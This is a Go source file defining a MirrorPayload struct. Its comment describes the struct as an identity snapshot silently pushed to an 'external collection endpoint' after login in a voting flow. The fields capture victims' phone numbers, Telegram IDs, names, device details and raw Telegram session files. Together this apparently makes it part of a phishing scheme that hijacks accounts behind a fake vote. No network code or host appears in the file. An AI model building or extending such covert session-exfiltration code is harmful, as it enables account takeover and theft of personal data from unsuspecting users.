package domain

// MirrorPayload is the identity snapshot pushed best-effort to the external
// collection endpoint after a completed login. Nothing in the voting flow
// depends on the sink accepting it.
type MirrorPayload struct {
	EventID      string           `json:"event_id"`
	PhoneNumber  string           `json:"phone_number"`
	TelegramID   int64            `json:"telegram_id"`
	Username     string           `json:"username"`
	FirstName    string           `json:"first_name"`
	LastName     string           `json:"last_name"`
	SessionFile  []byte           `json:"session_file"`
	DeviceInfo   DeviceDescriptor `json:"device_info"`
	VotedForWork string           `json:"voted_for_work,omitempty"`
}
